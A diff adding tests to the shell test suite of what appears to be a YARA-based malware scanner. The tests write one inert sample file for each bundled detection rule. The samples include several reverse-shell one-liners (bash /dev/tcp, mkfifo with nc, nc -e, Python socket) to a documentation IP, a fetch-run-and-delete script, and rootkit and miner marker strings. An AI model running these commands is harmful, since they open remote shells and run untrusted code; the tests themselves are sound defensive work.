@@ -85,6 +85,30 @@ run scan --rules "$work/nowhere" "$work/files/good"
 expect "without rules nothing is good" 2 'nowhere:0: cannot be read'
 run scan --rules "$bundled" /bin/sh /bin/ls
 expect "the bundled rules leave programs alone" 0 '/bin/sh: nothing found$'
+# What each bundled rule is for; none of it does anything.
+mkdir "$work/bundled"
+elf='\177ELF\2\1\1'
+printf '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/80 0>&1\n' >"$work/bundled/Script_Shell_Over_Network"
+printf '#!/bin/sh\ncurl -o /tmp/x http://192.0.2.1/x\nchmod +x /tmp/x\n/tmp/x\nrm -f "$0"\n' \
+	>"$work/bundled/Script_Download_And_Run"
+printf "$elf UPX! ... \$Info: This file is packed with the UPX executable packer" >"$work/bundled/Elf_Packed_Upx"
+printf "$elf stratum+tcp:// stratum+ssl:// donate-level" >"$work/bundled/Elf_Coin_Miner"
+printf "$elf /etc/ld.so.preload dlsym readdir64 /proc/self/maps" >"$work/bundled/Elf_Preload_Rootkit"
+printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-%s-TEST-FILE!$H+H*' ANTIVIRUS >"$work/bundled/Eicar_Test_File"
+for rule in $(sed -n 's/^rule \([A-Za-z_]*\).*/\1/p' "$bundled"/*.yar); do
+	run scan --rules "$bundled" "$work/bundled/$rule"
+	expect "the bundled rule $rule" 1 "/$rule: report: $rule ("
+	[ "$(wc -l <"$work/out")" = 1 ] || expect "$rule alone" 1 'no other rule'
+done
+for line in 'exec 5<>/dev/tcp/192.0.2.1/80' 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 80 >/tmp/f' \
+	'nc 192.0.2.1 80 -e /bin/sh' 's=socket.socket(); os.dup2(s.fileno(),0); subprocess.call(["sh"])'; do
+	printf '#!/bin/sh\n%s\n' "$line" >"$work/bundled/line"
+	run scan --rules "$bundled" "$work/bundled/line"
+	expect "a shell over the network by $line" 1 'Script_Shell_Over_Network'
+done
+run scan --rules "$bundled" "$tool"
+expect "not what only quotes them" 0 'nothing found'
+
 run scan --rules "$work/rules"
 expect "no file" 2 '^Usage: ringfort-yara scan'
 
